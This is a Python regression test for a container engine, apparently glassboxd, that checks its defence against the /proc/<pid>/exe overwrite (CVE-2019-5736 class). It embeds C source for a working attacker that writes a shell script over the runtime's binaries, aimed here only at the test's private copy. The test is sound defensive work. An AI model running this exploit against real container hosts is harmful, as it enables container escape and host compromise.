"""The /proc/<pid>/exe overwrite (CVE-2019-5736 class) tried against a private glassboxd.

A static program inside a container scans /proc/*/exe without pause for the whole test. For
every process whose binary looks like the engine's (the link names the test's own copy of the
binaries or a memfd), it tries open(O_WRONLY) through /proc/<pid>/exe, keeps an O_PATH
descriptor, and keeps retrying open("/proc/self/fd/N", O_WRONLY) on each one; whenever a
writable open succeeds it writes a shell script over the start of the file, exactly what the
real exploit does. One attacker runs in a container made with `run -d --init`, another in one
made with `create --init` and `start`; both see their PID 1 (glassbox-init) from the start, and
the test runs `exec` into both (as root and as another user) 20 times each, so they also see
every fork of the daemon that joins their namespaces. Then the daemon is SIGKILLed while both
attackers go on retrying. (Without --init the attacker is PID 1 itself: a new PID namespace holds
no other process before the command execs. The containers here keep the default PidMode, a PID
namespace of their own; `host` and `container:<id>`, which share one, are not part of this test.)

The daemon runs from a copy of glassboxd and glassbox-init in the test's temp directory, so a
regression damages only that copy. The attackers only touch links under that directory or memfds,
never another daemon's binary. GLASSBOX_EXE_ATTACK_DAEMON=<path to another glassboxd> runs the
same attack against that binary (used to show the attack works against a build without the
defence).
"""
import hashlib
import os
import shutil
import signal
import subprocess
import tempfile
import time

import pytest

import glassbox_harness as harness
from glassbox_harness import unique
from static_program import build_static

ATTACKER_SOURCE = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

/* usage: attacker SECONDS LOG PREFIX. Attacks only binaries whose /proc/<pid>/exe link starts
 * with PREFIX (the test's copy of the engine) or with /memfd:, or that is this container's own
 * /sbin/glassbox-init. */
static FILE* out;
static const char* prefix;

static int wanted(const char* link)
{
    return strncmp(link, prefix, strlen(prefix)) == 0 || strncmp(link, "/memfd:", 7) == 0
        || strcmp(link, "/sbin/glassbox-init") == 0;
}

/* Logs the first few of each outcome only: a successful attack repeats thousands of times. */
static void try_write(int fd, const char* how, const char* link)
{
    static const char payload[] = "#!/bin/sh\necho pwned by a container\n";
    static int opened, wrote, failed;
    if (opened++ < 10)
        fprintf(out, "OPENW %s %s\n", how, link);
    if (pwrite(fd, payload, sizeof payload - 1, 0) > 0) {
        if (wrote++ < 10)
            fprintf(out, "WROTE %s %s\n", how, link);
    } else if (failed++ < 10) {
        fprintf(out, "WRITEFAIL %s %s errno=%d\n", how, link, errno);
    }
}

struct held { int fd; char link[256]; };

int main(int argc, char** argv)
{
    if (argc < 4)
        return 2;
    out = fopen(argv[2], "w");
    if (!out)
        return 3;
    setvbuf(out, NULL, _IOLBF, 0);
    prefix = argv[3];
    time_t deadline = time(NULL) + atoi(argv[1]);
    static struct held held[256];
    int nheld = 0;
    long scans = 0, seen = 0, denied = 0, opens = 0;
    static char seen_denied[65536], seen_link[65536];
    pid_t self = getpid();
    fprintf(out, "START pid=%d\n", (int)self);

    while (time(NULL) < deadline) {
        scans++;
        DIR* proc = opendir("/proc");
        if (!proc)
            return 4;
        struct dirent* entry;
        while ((entry = readdir(proc)) != NULL) {
            int pid = atoi(entry->d_name);
            if (pid <= 0 || pid == self)
                continue;
            char path[64], link[256];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t n = readlink(path, link, sizeof link - 1);
            if (n < 0) {
                if (errno != EACCES && errno != EPERM)
                    continue;
                /* Not allowed to look: report forks of the engine (by name) once per pid. */
                char comm_path[64], comm[32] = "";
                snprintf(comm_path, sizeof comm_path, "/proc/%d/comm", pid);
                int c = open(comm_path, O_RDONLY);
                if (c >= 0) {
                    ssize_t got = read(c, comm, sizeof comm - 1);
                    comm[got > 0 ? got : 0] = 0;
                    comm[strcspn(comm, "\n")] = 0;
                    close(c);
                }
                if (strstr(comm, "glassbox") && pid < (int)sizeof seen_denied && !seen_denied[pid]) {
                    seen_denied[pid] = 1;
                    denied++;
                    fprintf(out, "DENIED %d %s\n", pid, comm);
                }
                continue;
            }
            link[n] = 0;
            if (!wanted(link))
                continue;
            seen++;
            if (pid < (int)sizeof seen_link && !seen_link[pid]) {
                seen_link[pid] = 1;
                fprintf(out, "SEEN %d %s\n", pid, link);
            }
            int w = open(path, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                opens++;
                try_write(w, "exe", link);
                close(w);
            }
            int known = 0;
            for (int i = 0; i < nheld; i++)
                known |= strcmp(held[i].link, link) == 0;
            if (!known && nheld < 256) {
                int p = open(path, O_PATH | O_CLOEXEC);
                if (p >= 0) {
                    held[nheld].fd = p;
                    snprintf(held[nheld].link, sizeof held[nheld].link, "%s", link);
                    nheld++;
                    fprintf(out, "HOLD %d %s\n", pid, link);
                }
            }
        }
        closedir(proc);
        for (int i = 0; i < nheld; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
            int w = open(path, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                opens++;
                try_write(w, "fd", held[i].link);
                close(w);
            }
        }
    }
    fprintf(out, "SUMMARY scans=%ld seen=%ld denied=%ld held=%d writable_opens=%ld\n", scans, seen, denied, nheld, opens);
    return 0;
}
"""


def sha256(path):
    digest = hashlib.sha256()
    with open(path, "rb") as f:
        for block in iter(lambda: f.read(1 << 20), b""):
            digest.update(block)
    return digest.hexdigest()


def ok(result):
    assert result.returncode == 0, f"exit {result.returncode}\nstdout: {result.stdout}\nstderr: {result.stderr}"
    return result.stdout


def read_log(path):
    try:
        with open(path, errors="replace") as f:
            return f.read().splitlines()
    except OSError:
        return []


@pytest.fixture
def attack_setup(monkeypatch):
    """A private daemon started from a copy of the binaries, and the compiled attacker."""
    reason = harness.missing_reason(need_cli=False)
    if reason:
        pytest.skip(reason)
    if shutil.which("docker") is None:
        pytest.skip("the docker CLI is not installed")
    work = tempfile.mkdtemp(prefix="gb-exe-attack-")
    bin_dir = os.path.join(work, "bin")
    attack_dir = os.path.join(work, "attack")
    out_dir = os.path.join(work, "out")
    for d in (bin_dir, attack_dir, out_dir):
        os.makedirs(d)
    source_daemon = os.environ.get("GLASSBOX_EXE_ATTACK_DAEMON") or harness.DAEMON
    source_init = os.path.join(os.path.dirname(source_daemon), "glassbox-init")
    daemon_copy = os.path.join(bin_dir, "glassboxd")
    init_copy = os.path.join(bin_dir, "glassbox-init")
    shutil.copy2(source_daemon, daemon_copy)
    shutil.copy2(source_init, init_copy)

    why_not = build_static(ATTACKER_SOURCE, os.path.join(attack_dir, "attacker"))
    if why_not:
        shutil.rmtree(work, ignore_errors=True)
        pytest.skip(why_not)

    monkeypatch.setattr(harness, "DAEMON", daemon_copy)
    d = harness.Daemon(label="exe-attack")
    d.start()
    try:
        yield d, work, (source_daemon, source_init)
    finally:
        # A SIGKILLed daemon is started again on the same roots first, so it ends the orphaned
        # containers and unmounts their roots; then the normal stop.
        left = d.stop()
        shutil.rmtree(work, ignore_errors=True)
        assert not left, f"glassboxd left mounts behind: {left}"


def daemon_argv(d):
    with open(f"/proc/{d.pid}/cmdline", "rb") as f:
        return [part.decode() for part in f.read().split(b"\0") if part]


def restart(d, argv):
    """Starts glassboxd again with the arguments of the one that was killed."""
    d.log = open(d.log_path, "ab")
    d.proc = subprocess.Popen(argv, stdout=d.log, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
    d.pid = d.proc.pid
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        try:
            if d.request("GET", "/_ping", timeout=2)[0] == 200:
                return
        except OSError:
            pass
        time.sleep(0.1)
    raise AssertionError("glassboxd did not come back after the SIGKILL:\n" + d.log_text())


def test_no_container_can_write_the_engine_binaries_through_proc_exe(attack_setup):
    d, work, sources = attack_setup
    daemon_copy = os.path.join(work, "bin", "glassboxd")
    init_copy = os.path.join(work, "bin", "glassbox-init")
    hashes_before = {path: sha256(path) for path in (daemon_copy, init_copy)}
    attack = os.path.join(work, "attack")
    out = os.path.join(work, "out")
    prefix = os.path.join(work, "bin")
    victim, started = unique("gbt-victim"), unique("gbt-started")
    mounts = ["-v", f"{attack}:/attack:ro", "-v", f"{out}:/out"]
    seconds = "150"  # Longer than the whole test: the attackers outlive the daemon.

    # The running daemon is the sealed copy, not the file it was started from.
    daemon_exe = os.readlink(f"/proc/{d.pid}/exe")
    if not os.environ.get("GLASSBOX_EXE_ATTACK_DAEMON"):
        assert daemon_exe.startswith("/memfd:glassboxd"), daemon_exe

    # Attacker 1: `run`; attacker 2: `create` then `start`. Both behind --init.
    ok(d.docker("run", "-d", "--init", "--name", victim, *mounts, d.tag,
                "/attack/attacker", seconds, "/out/run.log", prefix))
    ok(d.docker("create", "--init", "--name", started, *mounts, d.tag,
                "/attack/attacker", seconds, "/out/start.log", prefix))
    ok(d.docker("start", started))
    time.sleep(0.5)

    for _ in range(20):
        for target in (victim, started):
            ok(d.docker("exec", target, "true"))
            ok(d.docker("exec", "-u", "65534", target, "true"))

    # PID 1 of an --init container executes the sealed copy of glassbox-init.
    pid1_exe = ok(d.docker("exec", victim, "readlink", "/proc/1/exe")).strip()
    pid1_comm = ok(d.docker("exec", victim, "cat", "/proc/1/comm")).strip()

    # Now the daemon dies (a crash, an upgrade) while the attackers keep retrying.
    argv = daemon_argv(d)
    attacker_pids = [d.container_pid(victim), d.container_pid(started)]
    os.kill(d.pid, signal.SIGKILL)
    d.proc.wait(timeout=10)
    d.log.close()
    time.sleep(5)
    hashes_after = {path: sha256(path) for path in (daemon_copy, init_copy)}
    run_log = read_log(os.path.join(out, "run.log"))
    start_log = read_log(os.path.join(out, "start.log"))
    # Clean up before judging: end the attackers (PID 1 of each container, which takes the
    # rest of its namespace along), put back any binary they damaged, and start the daemon
    # again on the same roots so it unmounts and forgets the orphaned containers.
    for pid in attacker_pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
    for source, copy in zip(sources, (daemon_copy, init_copy)):
        if sha256(copy) != hashes_before[copy]:
            os.unlink(copy)
            shutil.copy2(source, copy)
    restart(d, argv)

    def digest(lines):
        counts = {}
        for line in lines:
            counts[line.split(" ", 1)[0]] = counts.get(line.split(" ", 1)[0], 0) + 1
        interesting = [line for line in lines if not line.startswith(("DENIED", "SEEN"))]
        return [f"  counts: {counts}"] + ["  " + line for line in interesting[:12]]

    report = "\n".join(["run.log:"] + digest(run_log) + ["start.log:"] + digest(start_log))
    print(report)
    assert run_log and run_log[0].startswith("START"), report
    assert start_log and start_log[0].startswith("START"), report
    both = run_log + start_log
    wrote = [line for line in both if line.startswith("WROTE")]
    assert not wrote, "a container wrote an engine binary:\n" + report
    # A writable open may only ever reach a sealed memfd, never a file on the host.
    writable = [line for line in both if line.startswith("OPENW")]
    assert all(line.split(" ", 2)[2].startswith("/memfd:") for line in writable), report
    assert hashes_after == hashes_before, "an engine binary on disk changed:\n" + report
    if not os.environ.get("GLASSBOX_EXE_ATTACK_DAEMON"):
        assert pid1_exe.startswith("/memfd:glassbox-init"), pid1_exe
        assert pid1_comm == "glassbox-init"
        # The attack ran: the exec'd forks of the daemon were in sight and refused.
        denied = [line for line in both if line.startswith("DENIED")]
        assert denied, "the attackers never saw a fork of the daemon during 80 execs:\n" + report
